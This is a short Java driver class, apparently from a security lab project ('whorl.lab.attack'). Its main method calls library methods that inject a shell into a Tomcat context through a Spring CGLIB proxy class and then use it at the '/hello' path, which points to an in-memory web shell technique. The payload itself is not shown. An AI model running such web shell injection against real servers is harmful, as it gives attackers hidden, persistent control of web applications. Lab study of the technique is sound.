import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(TomcatContext.class, App$$EnhancerBySpringCGLIB$$1a2b3c.class);
    Shells.use("/hello");
    whorl.lab.attack.Attacker.done();
  }
}
